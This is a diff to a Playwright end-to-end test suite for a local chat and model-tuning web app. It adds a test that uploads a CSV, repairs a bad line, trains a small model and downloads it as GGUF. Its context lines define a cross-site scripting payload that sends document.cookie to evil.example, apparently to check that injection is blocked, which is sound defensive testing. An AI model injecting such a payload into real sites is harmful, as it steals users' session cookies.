@@ -136,7 +136,7 @@ def test_a_conversation_is_kept_renamed_found_exported_and_deleted(watched: Watc
     page.get_by_label("More").first.click()
     page.get_by_text("Delete", exact=True).click()
     page.get_by_role("button", name="Delete").click()
-    expect(page.locator(".history li")).to_have_count(0)
+    expect(page.locator(".history .title")).to_have_count(0)
     expect(page.locator(".message")).to_have_count(0)
 
 
@@ -363,6 +363,50 @@ def test_no_other_sites_page_opens_a_socket_and_nothing_may_be_loaded_from_elsew
     assert "default-src 'none'" in policy and "http" not in policy and "*" not in policy
 
 
+def test_from_a_table_to_a_tuned_model_beside_its_base(browser: Browser, tmp_path: Path, models: Path) -> None:
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / "graft.toml").write_text("[tuning]\nepochs = 1\nbatch_size = 4\n")
+    said = {
+        "refund": "give back the money for",
+        "delivery": "where is the parcel of",
+        "account": "close the account of",
+    }
+    rows = [f"{said[kind]} customer {n}-{kind[0]};{kind}" for n in range(8) for kind in said]
+    (tmp_path / "table.csv").write_text("customer_says;goes_to\n" + "\n".join(rows) + "\nonly one cell\n")
+    with server(home) as root:
+        opened = Watched(browser, root)
+        page = opened.page
+        page.goto(f"{root}/app/tune")
+        page.locator("input[type=file]").set_input_files(tmp_path / "table.csv")
+        page.get_by_role("button", name="Use these columns").click(timeout=60_000)
+        broken = page.locator(".finding.error")
+        expect(broken).to_contain_text("line 26: 1 cells where the header names 2", timeout=60_000)
+        page.get_by_role("button", name="Look ahead").click()
+        expect(page.locator(".preview .finding.error")).to_contain_text("lines that are no examples", timeout=60_000)
+
+        broken.get_by_role("button", name="Mend").click()
+        expect(page.get_by_label("The line")).to_have_value("only one cell")
+        page.get_by_label("The line").fill("give back the money for everything;refund")
+        page.get_by_role("button", name="Keep this").click()
+        expect(broken).to_have_count(0, timeout=60_000)
+
+        page.get_by_role("button", name="Look ahead").click()
+        expect(page.locator(".token.learnt").first).to_contain_text(re.compile("ref|del|acc"), timeout=90_000)
+        page.get_by_role("button", name="Begin training").click()
+        expect(page.locator(".training canvas")).to_be_visible()
+        page.reload()  # it goes on, and the page finds it again
+        expect(page.locator(".result .shelf-table")).to_contain_text("tuned", timeout=200_000)
+        expect(page.locator(".result")).to_contain_text(re.compile("than its base"))
+        with page.expect_download(timeout=120_000) as download:
+            page.get_by_role("button", name="Take it away as GGUF").click()
+        assert Path(download.value.path()).read_bytes()[:4] == b"GGUF"
+        page.get_by_role("link", name="Ask it in the chat").click()
+        page.get_by_label("Model").click()
+        expect(page.get_by_role("option", name=re.compile("ft-smollm2-135m-mine"))).not_to_have_count(0)
+        opened.close()
+
+
 RUN = "window.pwned = 1; fetch('https://evil.example/' + document.cookie)"
 ATTACKS = tuple(
     form.replace("RUN", RUN)
@@ -516,7 +560,7 @@ def test_nothing_serious_stands_in_the_way_of_anybody(
 ) -> None:
     opened = Watched(browser, root, color_scheme=scheme, viewport={"width": 360, "height": 740})
     page = opened.page
-    for path in ("/app/", "/app/documents", "/app/sign-in"):
+    for path in ("/app/", "/app/documents", "/app/tune", "/app/sign-in"):
         page.goto(root + path)
         page.wait_for_load_state("networkidle")
         if path == "/app/":
